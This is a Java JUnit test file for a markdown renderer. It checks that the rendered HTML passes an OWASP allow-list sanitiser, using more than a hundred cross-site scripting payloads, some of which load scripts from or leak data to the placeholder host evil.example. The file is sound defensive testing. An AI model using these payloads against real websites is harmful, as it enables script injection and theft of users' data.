package dev.holdfast.worker.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.owasp.html.HtmlPolicyBuilder;
import org.owasp.html.PolicyFactory;
import org.xml.sax.Attributes;
import org.xml.sax.helpers.DefaultHandler;

/**
 * An independent sanitiser that knows only the elements, attributes and schemes we mean to emit
 * must find nothing to take away.
 */
class SafeHtmlTest {
    private static final PolicyFactory ALLOWED =
            new HtmlPolicyBuilder()
                    .allowElements(
                            "p",
                            "br",
                            "hr",
                            "h1",
                            "h2",
                            "h3",
                            "h4",
                            "h5",
                            "h6",
                            "em",
                            "strong",
                            "del",
                            "code",
                            "pre",
                            "blockquote",
                            "ul",
                            "ol",
                            "li",
                            "table",
                            "thead",
                            "tbody",
                            "tr",
                            "th",
                            "td",
                            "a",
                            "input",
                            "span",
                            "div",
                            "details",
                            "summary",
                            "math",
                            "mrow",
                            "mi",
                            "mo",
                            "mn",
                            "mtext",
                            "mspace",
                            "mfrac",
                            "msqrt",
                            "mroot",
                            "mstyle",
                            "mpadded",
                            "mphantom",
                            "menclose",
                            "msub",
                            "msup",
                            "msubsup",
                            "munder",
                            "mover",
                            "munderover",
                            "mtable",
                            "mtr",
                            "mtd")
                    .allowAttributes("class")
                    .matching(true, "math")
                    .onElements("div")
                    .allowAttributes("class")
                    .matching(true, "math-left", "math-right")
                    .onElements("mtd")
                    .allowAttributes("class")
                    .matching(true, "math-before")
                    .onElements("mpadded")
                    .allowAttributes("display")
                    .matching(true, "block")
                    .onElements("math")
                    .allowAttributes("alttext")
                    .onElements("math")
                    .allowAttributes("mathvariant")
                    .matching(true, "normal")
                    .onElements("mi")
                    .allowAttributes(
                            "displaystyle",
                            "scriptlevel",
                            "fence",
                            "separator",
                            "stretchy",
                            "symmetric",
                            "largeop",
                            "movablelimits",
                            "accent",
                            "accentunder",
                            "form",
                            "lspace",
                            "rspace",
                            "minsize",
                            "maxsize",
                            "width",
                            "height",
                            "depth",
                            "voffset",
                            "linethickness",
                            "mathcolor",
                            "mathbackground",
                            "notation")
                    .matching((element, attribute, value) ->
                            value.matches("[\\w#.+% -]{1,80}") ? value : null)
                    .globally()
                    .allowUrlProtocols("http", "https", "mailto")
                    .allowAttributes("href", "title", "rel")
                    .onElements("a")
                    .allowAttributes("target")
                    .matching(true, "_blank")
                    .onElements("a")
                    .allowAttributes("class")
                    .matching((element, attribute, value) ->
                            value.matches("language-[\\w+#.-]+") ? value : null)
                    .onElements("code")
                    .allowAttributes("class")
                    .matching((element, attribute, value) ->
                            value.matches("hl-[a-z]+") ? value : null)
                    .onElements("span")
                    .allowAttributes("data-language")
                    .matching((element, attribute, value) ->
                            value.matches("[\\w+#. -]+") ? value : null)
                    .onElements("pre")
                    .allowAttributes("align")
                    .matching(true, "left", "center", "right")
                    .onElements("th", "td")
                    .allowAttributes("start")
                    .matching((element, attribute, value) -> value.matches("\\d+") ? value : null)
                    .onElements("ol")
                    .allowAttributes("type")
                    .matching(true, "checkbox")
                    .onElements("input")
                    .allowAttributes("disabled", "checked")
                    .matching((element, attribute, value) -> value.isEmpty() ? value : null)
                    .onElements("input")
                    .allowAttributes("open")
                    .matching((element, attribute, value) -> value.isEmpty() ? value : null)
                    .onElements("details")
                    .allowAttributes("dir")
                    .matching(true, "auto", "ltr")
                    .globally()
                    .toFactory();

    private static final Set<String> CHECKED = new HashSet<>();

    /** After the OWASP cheat sheets on cross-site scripting and its filter evasion. */
    static List<String> attacks() {
        List<String> payloads =
                List.of(
                        "<script>alert(1)</script>",
                        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
                        "<script\n>alert(1)</script\n>",
                        "<<script>alert(1)//<</script>",
                        "<script src=//evil.example/.j>",
                        "<img src=x onerror=alert(1)>",
                        "<img src=\"javascript:alert(1);\">",
                        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
                        "<img src=x onerror=\"&#0000106&#0000097\">",
                        "<img dynsrc=\"javascript:alert(1)\">",
                        "<svg/onload=alert(1)>",
                        "<svg><script>alert&#40;1)</script></svg>",
                        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                        "<body onload=alert(1)>",
                        "<iframe src=\"javascript:alert(1);\"></iframe>",
                        "<iframe srcdoc=\"<img src=x onerror=alert(1)>\"></iframe>",
                        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
                        "<embed src=\"https://evil.example/x.swf\">",
                        "<link rel=stylesheet href=\"javascript:alert(1);\">",
                        "<style>@import'https://evil.example/x.css';</style>",
                        "<div style=\"background:url(javascript:alert(1))\">",
                        "<div style=\"width: expression(alert(1));\">",
                        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                        "<base href=\"javascript:alert(1);//\">",
                        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
                        "<input onfocus=alert(1) autofocus>",
                        "<video><source onerror=\"alert(1)\">",
                        "<details open ontoggle=alert(1)>",
                        "<details>\n"
                                + "<summary>\"><script>alert(1)</script></summary>\n"
                                + "<b onclick=x></details>",
                        "<details open ontoggle=alert(1)><summary"
                                + " onclick=x>a</summary></details><script>",
                        "<details open=\"x\" ontoggle=\"alert(1)\">\n<summary>a",
                        "<details><summary><b><img src=x onerror=alert(1)></b></summary>x<br"
                                + " onclick=x>",
                        "<a href=\"javascript:alert(1)\">x</a>",
                        "<a onmouseover=\"alert(1)\">x</a>",
                        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                        "<!--><script>alert(1)</script>-->",
                        "<? echo('<script>') ?>",
                        "<![CDATA[<script>alert(1)</script>]]>",
                        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
                        "&lt;script&gt;alert(1)&lt;/script&gt;",
                        "&#60;script&#62;alert(1)&#60;/script&#62;",
                        "\\<script\\>alert(1)\\</script\\>",
                        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                        "<plaintext>",
                        "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
                        "[x](javascript:alert(1))",
                        "[x](JaVaScRiPt:alert(1))",
                        "[x]( javascript:alert(1))",
                        "[x](<java\tscript:alert(1)>)",
                        "[x](java&#x0A;script:alert(1))",
                        "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
                        "[x](&#106;avascript&colon;alert(1))",
                        "[x](javascript&#58;alert(1))",
                        "[x](\\javascript:alert(1))",
                        "[x](&#1;javascript:alert(1))",
                        "[x](vbscript:msgbox(1))",
                        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                        "[x](//evil.example)",
                        "[x](\\\\evil.example)",
                        "[x](https://a.b/\" onmouseover=\"alert(1))",
                        "[x](https://a.b \"\\\" onmouseover=\\\"alert(1)\")",
                        "[x](https://a.b '\"><script>alert(1)</script>')",
                        "[x](https://a.b/'onmouseover='alert(1))",
                        "[x]: javascript:alert(1)\n\n[x]",
                        "[x]: https://a.b \"\\\"><img src=x onerror=alert(1)>\"\n\n[x]",
                        "[<script>alert(1)</script>](https://a.b)",
                        "[`\"><script>`](https://a.b)",
                        "<javascript:alert(1)>",
                        "<data:text/html,x>",
                        "<https://a.b/\"onmouseover=\"alert(1)>",
                        "https://a.b/\"onmouseover=\"alert(1)",
                        "www.a.b/<script>alert(1)</script>",
                        "![x](javascript:alert(1))",
                        "![x](https://evil.example/?leak=everything)",
                        "![\"onerror=\"alert(1)](https://a.b)",
                        "![<img src=x onerror=alert(1)>](https://a.b)",
                        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                        "```\"onmouseover=\"alert(1)\nx\n```",
                        "```html\"><script>alert(1)</script>\nx\n```",
                        "```\n</code></pre><script>alert(1)</script>\n```",
                        "~~~ x&#34;onload=&#34;alert(1)\nx",
                        "    </code></pre><script>alert(1)</script>",
                        "`</code><script>alert(1)</script>`",
                        "| a |\n|---|\n| <script>alert(1)</script> |",
                        "| a <svg/onload=alert(1)> |\n|:-:|\n| [x](javascript:1) |",
                        "- [x] <script>alert(1)</script>",
                        "- [\"onclick=\"alert(1)] x",
                        "1\"onclick=\"alert(1). x",
                        "> <iframe src=//evil.example>",
                        "# <script>alert(1)</script>\n<script>\n===",
                        "$\\href{javascript:alert(1)}{x}$",
                        "$\\url{javascript:alert(1)}$",
                        "$$\\includegraphics[alt=x]{https://evil.example/x.png}$$",
                        "$\\htmlClass{x}{y} \\htmlData{a=\"onload=alert(1)\"}{y}$",
                        "\\(\\htmlStyle{background:url(//evil.example)}{x} \\htmlId{a}{b}\\)",
                        "$x<script>alert(1)</script>^2$",
                        "$\\text{<img src=x onerror=alert(1)>}$",
                        "$\\text{</math><script>alert(1)</script>}^2$",
                        "\\[\\text{</mtext><style><img src=x onerror=alert(1)>}\\]",
                        "$\\color{red\" onclick=\"alert(1)}{x}$",
                        "$\\textcolor{#f00}{x} \\colorbox{url(//evil.example)}{x}$",
                        "$$\n<script>alert(1)</script>\n$$",
                        "$$\n<script>alert(1)</script>\n\n",
                        "\\ce{<script>alert(1)</script> ->[\"onload=\"x] \\href{javascript:x}{y}}",
                        "$\\ce{^{<img src=x onerror=alert(1)>}_{\"}Th}$",
                        "$\\unknown{<script>alert(1)</script>}$",
                        "$\\verb|<script>alert(1)</script>|$",
                        "$\\rule{1000000em}{1000000em}$",
                        "$\\char\"3C script\\char\"3E^2$",
                        "```js\n\"</span><script>alert(1)</script>\n```",
                        "```html\n<script>alert(1)</script><img onerror=\"x\">\n```",
                        "```php\n<?php echo '</code><script>'; ?><b onclick=\"x\">\n```",
                        "```<script>\nx\n```",
                        "```js\u0000\" onload=\"x\n/*</code>\n```",
                        "![x](https://pictures.example/a.png\" onload=\"alert(1))",
                        "![\"><script>x</script>](https://pictures.example/a.png '\"onload=\"x')");
        return payloads;
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void letsNothingActiveThrough(String attack) {
        for (String text : List.of(attack, "- " + attack, "a " + attack + " b", attack + attack)) {
            Reader reader = new Reader();
            for (int at = 0; at < text.length(); at++) {
                reader.reads(text.substring(at, at + 1));
                checkLast(reader);
            }
            reader.finishes();
            reader.blocks().forEach(SafeHtmlTest::check);
        }
    }

    @Test
    void letsNothingActiveThroughInAnyMixture() {
        Random random = new Random(31337);
        for (int round = 0; round < 400; round++) {
            StringBuilder text = new StringBuilder();
            for (int i = 2 + random.nextInt(6); i > 0; i--) {
                String attack = attacks().get(random.nextInt(attacks().size()));
                text.append(attack, 0, 1 + random.nextInt(attack.length()));
                text.append(List.of("", "\n", "\n\n", "`", "*", "\"").get(random.nextInt(6)));
            }
            Reader reader = new Reader(new AnswerHtml(ImageHosts.NONE, 1));
            reader.reads(text.toString(), 20, random, (device, soFar) -> checkLast(device));
            reader.blocks().forEach(SafeHtmlTest::check);
        }
    }

    @Test
    void everyExampleIsSafe() {
        for (String example : Examples.ALL) {
            new Reader().reads(example).finishes().blocks().forEach(SafeHtmlTest::check);
        }
    }

    @Test
    void theOracleFindsWhatIsActive() {
        for (String active :
                List.of(
                        "<p><script>x</script></p>",
                        "<a href=\"javascript:x\">x</a>",
                        "<p onclick=\"x\">x</p>",
                        "<img src=\"https://a.b\" />")) {
            assertThat(canonical(ALLOWED.sanitize(active))).isNotEqualTo(canonical(active));
        }
    }

    private static void checkLast(Reader reader) {
        reader.patches().forEach(patch -> check(reader.blocks().get(patch.block())));
    }

    private static void check(String block) {
        if (!CHECKED.add(block)) {
            return;
        }
        assertThat(canonical(ALLOWED.sanitize(block))).as(block).isEqualTo(canonical(block));
        assertThat(block).doesNotContain("<img", "<script", "<svg", "<iframe", "<style");
        // The sanitiser lets addresses without a scheme pass.
        assertThat(block).doesNotContainPattern("href=\"(?!https?://|mailto:)");
    }

    /** Tags, attributes and words: not their spelling, nor the space between. */
    private static String canonical(String html) {
        StringBuilder canonical = new StringBuilder();
        WellFormed.read(
                html,
                new DefaultHandler() {
                    @Override
                    public void startElement(
                            String uri, String name, String tag, Attributes given) {
                        TreeMap<String, Object> attributes = new TreeMap<>();
                        for (int i = 0; i < given.getLength(); i++) {
                            attributes.put(given.getQName(i), valueOf(given, i));
                        }
                        canonical.append('<').append(tag).append(attributes);
                    }

                    @Override
                    public void endElement(String uri, String name, String tag) {
                        canonical.append("</").append(tag).append('>');
                    }

                    @Override
                    public void characters(char[] text, int from, int length) {
                        canonical.append(new String(text, from, length).replaceAll("\\s", ""));
                    }
                });
        return canonical.toString();
    }

    private static Object valueOf(Attributes attributes, int index) {
        String value = attributes.getValue(index);
        return switch (attributes.getQName(index)) {
            case "href" -> value.replace("(", "%28").replace(")", "%29");
            case "rel" -> new TreeSet<>(Arrays.asList(value.split(" ")));
            // The sanitiser writes the empty value of a boolean attribute as its name.
            case "disabled", "checked", "open" -> "";
            // It writes a blank for a line break, and one behind a value with a backtick.
            case "alttext" -> value.replaceAll("\\s", "");
            default -> value;
        };
    }
}
